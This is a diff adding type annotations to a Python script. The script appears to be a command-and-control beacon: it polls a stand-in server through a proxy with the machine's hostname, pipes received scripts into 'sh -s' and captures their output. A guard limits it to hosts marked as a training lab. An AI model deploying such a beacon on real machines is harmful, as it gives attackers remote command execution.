@@ -14,6 +14,7 @@ import subprocess
 import time
 import urllib.error
 import urllib.request
+from typing import Any
 
 SERVER = "http://cdn.sync-update.example"
 PROXY = "http://10.10.10.30:3128"
@@ -23,14 +24,14 @@ HERE = pathlib.Path(__file__).resolve().parent
 ME = socket.gethostname()
 
 
-def ask(path, data=None):
+def ask(path: str, data: bytes | None = None) -> Any:
     request = urllib.request.Request(SERVER + path, data=data, headers={"User-Agent": AGENT})
     opener = urllib.request.build_opener(urllib.request.ProxyHandler({"http": PROXY}))
     with opener.open(request, timeout=15) as answer:
         return json.loads(answer.read(2_000_000))
 
 
-def run(script, limit):
+def run(script: bytes, limit: int) -> dict[str, Any]:
     try:
         done = subprocess.run(["sh", "-s"], input=script, capture_output=True, timeout=limit, cwd=pathlib.Path.home())
         code, out, err = done.returncode, done.stdout, done.stderr
@@ -39,7 +40,7 @@ def run(script, limit):
     return {"exit": code, "stdout": out[:LIMIT].decode(errors="replace"), "stderr": err[:LIMIT].decode(errors="replace")}
 
 
-def beacon():
+def beacon() -> bool:
     answer = ask(f"/api/v2/status?id={ME}")
     if "job" not in answer:
         return False
@@ -48,7 +49,7 @@ def beacon():
     return True
 
 
-def main():
+def main() -> None:
     marker = pathlib.Path("/etc/cyder-lab")
     if not (marker.exists() and "training lab" in marker.read_text() and SERVER.endswith(".example")):
         return
